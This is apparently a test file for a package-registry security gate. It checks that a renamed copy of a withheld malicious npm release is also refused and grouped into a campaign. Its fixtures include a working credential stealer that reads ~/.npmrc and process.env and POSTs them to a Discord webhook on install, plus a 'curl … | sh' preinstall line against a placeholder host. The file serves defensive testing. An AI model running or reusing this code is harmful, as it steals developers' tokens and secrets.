import assert from "node:assert/strict";
import { test } from "node:test";
import { npmTarball } from "../../test/support/archives.ts";
import { publishNpm } from "../../test/support/publish.ts";
import { type TestGate, testGate } from "../../test/support/test-gate.ts";
import { listCampaigns } from "../tracking/campaigns.ts";

/** One program under other names and with other texts; what it sends differs in one word. */
const program = ([send, what, turn]: readonly [string, string, string], sent: string, to: string, file: string) => `
const https = require("https");
const path = require("path");
const fs = require("fs");
const ${what}File = path.join(require("os").homedir(), ${JSON.stringify(file)});
function ${send}(${what}) {
  const body = JSON.stringify({ ${what}, file: fs.readFileSync(${what}File, "utf8"), at: new Date().toISOString() });
  const request = https.request(${JSON.stringify(to)}, { method: "POST", headers: { "content-length": body.length } }, (${turn}) => {
    ${turn}.on("data", () => {});
    ${turn}.on("end", () => { if (${turn}.statusCode > 399) console.error("no", ${turn}.statusCode); });
  });
  request.on("error", () => setTimeout(() => ${send}(${what}), 1000).unref());
  request.end(body);
}
${send}(${sent});
module.exports = { ${send}, version: "1.0.0" };
`;

const EVIL = program(
  ["report", "data", "answer"],
  "process.env",
  "https://discord.com/api/webhooks/123456789012345678/abcdefghij",
  ".npmrc",
);
const QUIET = program(["_a1", "_b2", "_c3"], "process.title", "https://stats.example.invalid/hello", "notes.txt");

test("a release that is a withheld one renamed is withheld too, with a word about which", async (context) => {
  const gate = await testGate(context);
  publish(gate, "first-demo", EVIL, {
    postinstall: "node index.js",
    preinstall: "curl -s http://evil.example.invalid/x | sh",
  });
  publish(gate, "second-demo", QUIET);
  publish(
    gate,
    "third-demo",
    'const path = require("path");\nmodule.exports = (name) => path.join(__dirname, name);\n',
  );
  assert.equal((await get(gate, "first-demo")).status, 403);
  assert.equal((await get(gate, "third-demo")).status, 200);
  const refused = await get(gate, "second-demo");
  assert.equal(refused.status, 403);
  assert.match(await why(gate, "second-demo"), /resembles-withheld-release/);
  const [campaign] = listCampaigns(gate.app, { limit: 10 });
  assert.deepEqual(campaign?.members.map(({ name }) => name).sort(), ["first-demo", "second-demo"]);
});

test("what resembles a withheld release is clean where no withheld release is known", async (context) => {
  const gate = await testGate(context);
  publish(gate, "second-demo", QUIET);
  assert.equal((await get(gate, "second-demo")).status, 200);
  assert.deepEqual(listCampaigns(gate.app, { limit: 10 }), []);
});

function publish({ upstream }: TestGate, name: string, code: string, scripts = {}): void {
  const bytes = npmTarball({
    name,
    version: "1.0.0",
    files: { "index.js": code },
    manifest: { main: "index.js", scripts },
  });
  publishNpm(upstream, name, { "1.0.0": bytes });
}

function get(gate: TestGate, name: string): Promise<Response> {
  return gate.get(`/npm/${name}/-/${name}-1.0.0.tgz`);
}

/** The contributions of the assessment that stands. */
async function why(gate: TestGate, name: string): Promise<string> {
  const row = await gate.app.database
    .selectFrom("assessments")
    .innerJoin("artifacts", "artifacts.id", "artifact_id")
    .select("verdict")
    .where("filename", "like", `${name}%`)
    .executeTakeFirstOrThrow();
  return row.verdict;
}
